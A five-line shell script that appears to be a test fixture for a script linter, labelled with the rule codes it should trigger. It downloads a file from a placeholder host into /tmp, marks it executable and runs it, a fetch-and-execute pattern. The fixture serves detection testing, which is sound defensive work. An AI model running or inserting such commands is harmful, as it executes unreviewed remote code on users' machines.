# expect: DVM202 DVM203
set -euo pipefail
curl -o /tmp/i.sh https://example.org/i.sh
chmod +x /tmp/i.sh
/tmp/i.sh
